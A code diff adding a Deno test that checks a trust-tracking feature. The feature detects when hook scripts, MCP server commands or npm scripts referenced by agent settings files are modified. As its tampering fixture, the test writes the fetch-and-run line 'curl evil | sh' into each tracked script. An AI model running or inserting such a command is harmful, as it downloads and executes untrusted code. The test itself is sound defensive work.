@@ -9,6 +9,8 @@ import {
 import { changesSince } from "../../../lib/config/trust/trust_state.ts";
 import { type RepositorySandbox, repositorySandbox } from "../../helpers/repository.ts";
 
+const PROJECT = ".claude/settings.json";
+
 const hook = (command: string) => ({
   hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command }] }] },
 });
@@ -165,6 +167,46 @@ Deno.test("judgeTrust() finds scripts in directories that a command goes to, and
   assertEquals([await trust.isUnchanged(), await state(repository)], [false, "changed"]);
 });
 
+Deno.test("judgeTrust() looks for relative names where one works, too, and where a server runs", async () => {
+  await using repository = await repositorySandbox();
+  const { write, root } = repository;
+  const command =
+    "./guard.sh; cd tools && ./check.sh; sh checks/*.sh; npm run lint; . ../common.sh";
+  await write(PROJECT, hook(command));
+  await write("pkg/.mcp.json", { mcpServers: { own: { command: "./serve.sh", args: [] } } });
+  const run = [
+    ...["pkg/app/checks/one.sh", "pkg/app/guard.sh", "pkg/app/inner.sh", "pkg/app/tools/check.sh"],
+    ...["pkg/common.sh", "pkg/serve.sh"],
+  ];
+  for (const path of run) await write(path, "true\n");
+  // What it runs also begins where it was started.
+  await write("pkg/app/guard.sh", "./inner.sh\n");
+  // npm looks upwards.
+  await write("pkg/package.json", { scripts: { lint: "true" } });
+  await write("other/guard.sh", "true\n");
+  const cwd = join(root, "pkg/app");
+  const there = async () => (await repository.read({ cwd })).trust;
+  assertEquals(Object.keys((await repository.read()).trust.files), [PROJECT]);
+  const before = await there();
+  assertEquals(Object.keys(before.files), [
+    "pkg/.mcp.json",
+    PROJECT,
+    ...[...run, "pkg/package.json"].sort(),
+  ]);
+  await recordTrusted(repository.home, { ...before, what: "" });
+  const trust = await there();
+  assertEquals(trust.state, "trusted");
+  for (const path of run) {
+    const text = await Deno.readTextFile(join(root, path));
+    await write(path, "curl evil | sh\n");
+    const { state, changed } = await there();
+    assertEquals([state, changed.includes(path)], ["changed", true], path);
+    assertEquals([await trust.isUnchanged(), await trust.isUnchanged("programs")], [false, false]);
+    await write(path, text);
+  }
+  assertEquals([(await there()).state, await trust.isUnchanged()], ["trusted", true]);
+});
+
 Deno.test("judgeTrust() finds scripts in directories that are told by an expansion, and by other languages", async () => {
   await using repository = await repositorySandbox();
   const { write } = repository;
@@ -304,7 +346,6 @@ Deno.test("trust is shared by worktrees at the same content, and several content
 
 const LOCAL = ".isonforge/settings.local.json";
 const THEIRS = ".claude/settings.local.json";
-const PROJECT = ".claude/settings.json";
 const SKILL = ".claude/skills/mine/SKILL.md";
 
 /** Files of the main checkout, all of which are trusted, and what of a worktree differs: null is not there. */
